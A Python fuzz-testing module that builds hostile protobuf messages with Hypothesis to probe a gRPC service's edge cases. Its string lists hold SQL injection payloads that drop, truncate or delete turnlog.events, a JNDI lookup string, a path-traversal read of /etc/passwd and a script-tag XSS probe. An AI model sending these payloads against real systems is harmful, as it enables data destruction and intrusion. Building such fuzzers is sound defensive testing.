"""Hypothesis strategies for any protobuf message, generated from its descriptor.

Every field gets random values of its type, biased to where services break:
boundary and huge integers, NaN and infinities, unknown enum numbers,
timestamps and durations far out of range, empty, huge, odd-unicode and
SQL-looking strings, deeply nested JSON, and bogus page tokens and log
positions. `Hints` adds known-good values (an existing conversation, turn,
position, page token) so that requests also get past the first check and
reach the application.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from google.protobuf import descriptor, message, message_factory
from hypothesis import strategies as st

FD = descriptor.FieldDescriptor

INT32 = (-(2**31), 2**31 - 1)
INT64 = (-(2**63), 2**63 - 1)
UINT32 = (0, 2**32 - 1)
UINT64 = (0, 2**64 - 1)

SQL = [
    "'; DROP TABLE turnlog.events; --",
    '" OR 1=1 --',
    "1; SELECT pg_sleep(30)",
    "$$; TRUNCATE turnlog.events; $$",
    "x' UNION SELECT data FROM turnlog.events --",
    "%s %(x)s {0} {}",
    "\\x00\\\\'E'",
    "NULL",
    "conversations/a'; DELETE FROM turnlog.events; --",
    "${jndi:ldap://example.invalid/a}",
    "../../../../etc/passwd",
    "<script>alert(1)</script>",
]
ODD = [
    "",
    " ",
    "\t\n\r",
    "\x00",
    "a\x00b",
    "\u202eevil",
    "\ufeff",
    "\u200b\u200c\u200d",
    "e\u0301\u0301\u0301\u0301",
    "🙂" * 20,
    "👩\u200d👩\u200d👧\u200d👦",
    "\U0001d518\U0001d52b\U0001d526",
    "\uffff\U0010ffff",
    "ﷺ" * 50,
    "\\u0000",
    "Ω≈ç√∫",
]
#: Sizes (code points) of huge strings: past every limit, up to past gRPC's 4 MiB.
HUGE_SIZES = [129, 1_025, 10_000, 70_000, 262_145, 1_000_001, 2_100_000]
HUGE_CHARS = ["a", "é", "🙂", " "]


def huge_strings() -> st.SearchStrategy[str]:
    return st.builds(
        lambda char, size: char * size, st.sampled_from(HUGE_CHARS), st.sampled_from(HUGE_SIZES)
    )


def strings() -> st.SearchStrategy[str]:
    return st.one_of(
        st.text(max_size=40),
        st.sampled_from(ODD),
        st.sampled_from(SQL),
        huge_strings(),
        st.text(alphabet=st.characters(codec="utf-8"), max_size=300),
    )


#: Nesting depths: around the table's limit, and past Python's recursion limit.
DEPTHS = st.sampled_from([2_000, 100_000, 32, 33])


def nested_json() -> st.SearchStrategy[str]:
    """JSON text: ordinary objects, very deep nesting, and text that is not JSON."""
    leaves = st.one_of(st.none(), st.booleans(), st.integers(), st.text(max_size=10))
    values = st.recursive(
        leaves,
        lambda inner: st.one_of(
            st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=5), inner, max_size=3)
        ),
        max_leaves=20,
    )
    return st.one_of(
        DEPTHS.map(lambda n: '{"a":' * n + "1" + "}" * n),
        DEPTHS.map(lambda n: '{"a":' * n + "[]" + "}" * n),
        st.dictionaries(st.text(max_size=8), values, max_size=4).map(json.dumps),
        DEPTHS.map(lambda n: "[" * n + "]" * n),
        DEPTHS.map(lambda n: "[" * n),
        st.sampled_from(["", "{", "[]", "null", "1e999999", '{"a":NaN}', '"x"', "{}"]),
    )


def bogus_tokens() -> st.SearchStrategy[str]:
    """Page tokens: random text, base64 of hostile JSON, base64 of not-JSON."""

    def b64(raw: bytes) -> str:
        return base64.urlsafe_b64encode(raw).decode().rstrip("=")

    payloads = st.one_of(
        st.fixed_dictionaries(
            {
                "c": st.sampled_from(["", "seed-active", "x" * 300]),
                "t": st.one_of(st.none(), st.lists(st.text(max_size=5), max_size=3)),
                "a": st.one_of(
                    st.integers(*INT64),
                    st.integers(10**20, 10**40),
                    st.text(max_size=30),
                    st.just("99999999999999999999-1"),
                ),
            }
        ).map(json.dumps),
        st.builds(lambda n: '{"a":' * n + "}" * n, st.integers(1, 5000)),
        st.builds(
            lambda created, cid: f"{created}:{cid}",
            st.integers(-(10**30), 10**30),
            st.text(max_size=20),
        ),
    )
    return st.one_of(
        st.text(max_size=60),
        payloads.map(lambda p: b64(p.encode())),
        st.binary(max_size=60).map(b64),
        st.sampled_from(["=", "====", "!!!", "a", "YQ"]),
    )


def positions() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(
            [
                "0-0",
                "-1-1",
                "1-",
                "-",
                "99999999999999999999-1",
                "1-99999999999999999999",
                "9223372036854775807-9223372036854775807",
                "²-1",
                "١٢-٣",
                "1--1",
                " 1-1",
                "1-1 ",
            ]
        ),
        st.builds(
            lambda a, b: f"{a}-{b}", st.integers(-(10**25), 10**25), st.integers(-(10**25), 10**25)
        ),
        st.text(max_size=30),
    )


def regexes() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(
            [
                "(",
                "[",
                "a**",
                "(?=a)b",
                r"(a)\1",
                "(?P<n>a)",
                "(?i)a",
                r"\bword",
                r"\p{L}",
                "a{99999999999}",
                "x" * 5000,
                "",
                "[a-z]+",
                r"<tool_call>.*</tool_call>",
            ]
        ),
        st.text(max_size=20),
    )


@dataclass
class Hints:
    """Values by field name, mixed into the random ones (about one draw in two)."""

    by_name: dict[str, list[Any]] = field(default_factory=dict)
    strategies: dict[str, Callable[[], st.SearchStrategy[Any]]] = field(default_factory=dict)

    def known(self, f: descriptor.FieldDescriptor) -> list[Any]:
        """Known-good values of a field, by its full name first, then its name."""
        return self.by_name.get(f.full_name) or self.by_name.get(f.name) or []

    def for_field(
        self, f: descriptor.FieldDescriptor, *, known_only: bool = False
    ) -> st.SearchStrategy[Any] | None:
        options = []
        if known := self.known(f):
            options.append(st.sampled_from(known))
        if f.name in self.strategies and not known_only:
            options.append(self.strategies[f.name]())
        return st.one_of(*options) if options else None


def _integers(bounds: tuple[int, int]) -> st.SearchStrategy[int]:
    low, high = bounds
    edges = (low, low + 1, -1, 0, 1, 2, 32, 33, 50, 500, 501, 1000, 1001, high - 1, high)
    return st.one_of(
        st.sampled_from(sorted({v for v in edges if low <= v <= high})), st.integers(low, high)
    )


def _scalar(f: descriptor.FieldDescriptor) -> st.SearchStrategy[Any]:
    t = f.type
    if t == FD.TYPE_STRING:
        return strings()
    if t == FD.TYPE_BYTES:
        return st.one_of(
            st.binary(max_size=200), st.sampled_from([b"", b"\n", b"{}\n", b"\xff\xfe"])
        )
    if t in (FD.TYPE_INT32, FD.TYPE_SINT32, FD.TYPE_SFIXED32):
        return _integers(INT32)
    if t in (FD.TYPE_INT64, FD.TYPE_SINT64, FD.TYPE_SFIXED64):
        return _integers(INT64)
    if t in (FD.TYPE_UINT32, FD.TYPE_FIXED32):
        return _integers(UINT32)
    if t in (FD.TYPE_UINT64, FD.TYPE_FIXED64):
        return _integers(UINT64)
    if t == FD.TYPE_DOUBLE:
        return st.one_of(st.sampled_from([0.0, -0.0, 1.0, 2.0, 2.0000001, -1.0]), st.floats())
    if t == FD.TYPE_FLOAT:
        return st.floats(width=32)
    if t == FD.TYPE_BOOL:
        return st.booleans()
    if t == FD.TYPE_ENUM:
        known = [v.number for v in f.enum_type.values]
        return st.one_of(st.sampled_from(known), _integers(INT32))
    raise AssertionError(f"no strategy for field type {t} of {f.full_name}")


def _times(full_name: str) -> st.SearchStrategy[dict[str, int]]:
    """Timestamp/Duration seconds and nanos, mostly out of range."""
    return st.fixed_dictionaries(
        {
            "seconds": st.one_of(
                st.sampled_from(
                    [
                        0,
                        -1,
                        1_700_000_000,
                        -62_135_596_801,
                        253_402_300_800,
                        315_576_000_001,
                        -(2**63),
                        2**63 - 1,
                    ]
                ),
                st.integers(*INT64),
            ),
            "nanos": st.one_of(
                st.sampled_from([0, -1, 999_999_999, 1_000_000_000]), st.integers(*INT32)
            ),
        }
    )


def _value(f: descriptor.FieldDescriptor, hints: Hints, depth: int) -> st.SearchStrategy[Any]:
    if f.type == FD.TYPE_MESSAGE:
        return messages(f.message_type, hints, depth + 1)
    base = _scalar(f)
    if f.name.endswith("json") or f.name.endswith("json_schema"):
        base = st.one_of(base, nested_json())
    hinted = hints.for_field(f)
    return st.one_of(hinted, base) if hinted is not None else base


def _map_entries(
    f: descriptor.FieldDescriptor, hints: Hints, depth: int
) -> st.SearchStrategy[dict[Any, Any]]:
    key_field = f.message_type.fields_by_name["key"]
    value_field = f.message_type.fields_by_name["value"]
    return st.one_of(
        st.dictionaries(
            _value(key_field, hints, depth), _value(value_field, hints, depth), max_size=4
        ),
        st.integers(65, 300).map(lambda n: {f"k{i}": "v" for i in range(n)}),
    )


def messages(
    desc: descriptor.Descriptor, hints: Hints, depth: int = 0
) -> st.SearchStrategy[message.Message]:
    """Messages of type `desc`: hostile ones, and ones with a single bad field.

    Hostile: each field set or not, with any value of its type. Targeted:
    one field (anywhere in the message tree) gets a hostile value, aimed at
    its weak spot where a hint strategy exists; every other field takes a
    known-good value or stays unset, so the request passes the first check
    unless that field breaks it, and what lies behind is exercised.
    """
    # Fields with a weak spot to aim at are targeted more often.
    leaves = [
        leaf
        for leaf in _leaves(desc, depth)
        for _ in range(4 if leaf.rsplit(".", 1)[-1] in hints.strategies else 1)
    ]
    return st.one_of(
        _hostile(desc, hints, depth),
        st.sampled_from(leaves).flatmap(lambda target: _targeted(desc, hints, depth, target)),
    )


def _leaves(desc: descriptor.Descriptor, depth: int) -> list[str]:
    """Full names of every field reachable from `desc` (Timestamps as leaves)."""
    found: list[str] = []
    for f in desc.fields:
        found.append(f.full_name)
        if (
            f.type == FD.TYPE_MESSAGE
            and depth < 3
            and not f.message_type.GetOptions().map_entry
            and not f.message_type.full_name.startswith("google.protobuf.")
        ):
            found.extend(_leaves(f.message_type, depth + 1))
    return found


def _times_of(cls: Any, desc: descriptor.Descriptor) -> st.SearchStrategy[message.Message]:
    return _times(desc.full_name).map(lambda kw: cls(**kw))


def _repeated(f: descriptor.FieldDescriptor, one: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    return st.one_of(
        st.lists(one, max_size=3),
        st.tuples(st.integers(17, 80), one).map(lambda t: [t[1]] * t[0]),  # many copies
    )


def _set(msg: message.Message, f: descriptor.FieldDescriptor, value: Any) -> None:
    if f.message_type is not None and f.message_type.GetOptions().map_entry:
        getattr(msg, f.name).update(value)
    elif f.is_repeated:
        getattr(msg, f.name).extend(value)
    elif f.type == FD.TYPE_MESSAGE:
        getattr(msg, f.name).CopyFrom(value)
    else:
        setattr(msg, f.name, value)


def _hostile_value(
    f: descriptor.FieldDescriptor, hints: Hints, depth: int
) -> st.SearchStrategy[Any]:
    if f.message_type is not None and f.message_type.GetOptions().map_entry:
        return _map_entries(f, hints, depth)
    one = (
        _hostile(f.message_type, hints, depth + 1)
        if f.type == FD.TYPE_MESSAGE
        else _value(f, hints, depth)
    )
    return _repeated(f, one) if f.is_repeated else one


def _hostile(
    desc: descriptor.Descriptor, hints: Hints, depth: int
) -> st.SearchStrategy[message.Message]:
    cls = message_factory.GetMessageClass(desc)
    if desc.full_name in ("google.protobuf.Timestamp", "google.protobuf.Duration"):
        return _times_of(cls, desc)

    @st.composite
    def build(draw: st.DrawFn) -> message.Message:
        msg = cls()
        if depth > 3:
            return msg
        chosen = {o.name: draw(st.sampled_from([None, *o.fields])) for o in _real_oneofs(desc)}
        for f in desc.fields:
            oneof = f.containing_oneof
            if oneof is not None and oneof.name in chosen:
                if chosen[oneof.name] is not f:
                    continue
            elif not draw(st.booleans()):
                continue
            _set(msg, f, draw(_hostile_value(f, hints, depth)))
        return msg

    return build()


def _real_oneofs(desc: descriptor.Descriptor) -> list[descriptor.OneofDescriptor]:
    return [o for o in desc.oneofs if not (len(o.fields) == 1 and o.name == "_" + o.fields[0].name)]


def _targeted(
    desc: descriptor.Descriptor, hints: Hints, depth: int, target: str
) -> st.SearchStrategy[message.Message]:
    cls = message_factory.GetMessageClass(desc)
    if desc.full_name in ("google.protobuf.Timestamp", "google.protobuf.Duration"):
        return st.just(cls(seconds=1_700_000_000))

    def holds(f: descriptor.FieldDescriptor) -> bool:
        """Whether the target is `f` or inside it."""
        return f.full_name == target or (
            f.type == FD.TYPE_MESSAGE and target in _leaves(f.message_type, depth + 1)
        )

    @st.composite
    def build(draw: st.DrawFn) -> message.Message:
        msg = cls()
        if depth > 3:
            return msg
        chosen = {}
        for o in _real_oneofs(desc):
            inside = [f for f in o.fields if holds(f)]
            chosen[o.name] = inside[0] if inside else draw(st.sampled_from(list(o.fields)))
        for f in desc.fields:
            oneof = f.containing_oneof
            if oneof is not None and oneof.name in chosen and chosen[oneof.name] is not f:
                continue
            if f.full_name == target:
                weak_spot = hints.strategies.get(f.name)
                one = weak_spot() if weak_spot is not None and not f.is_repeated else None
                _set(msg, f, draw(one if one is not None else _hostile_value(f, hints, depth)))
            elif holds(f):
                inner = _targeted(f.message_type, hints, depth + 1, target)
                _set(msg, f, [draw(inner)] if f.is_repeated else draw(inner))
            elif known := hints.known(f):
                value = draw(st.sampled_from(known))
                _set(msg, f, [value] if f.is_repeated and not isinstance(value, dict) else value)
            elif f.type == FD.TYPE_MESSAGE and not f.is_repeated and draw(st.booleans()):
                _set(msg, f, draw(_targeted(f.message_type, hints, depth + 1, target)))
        return msg

    return build()
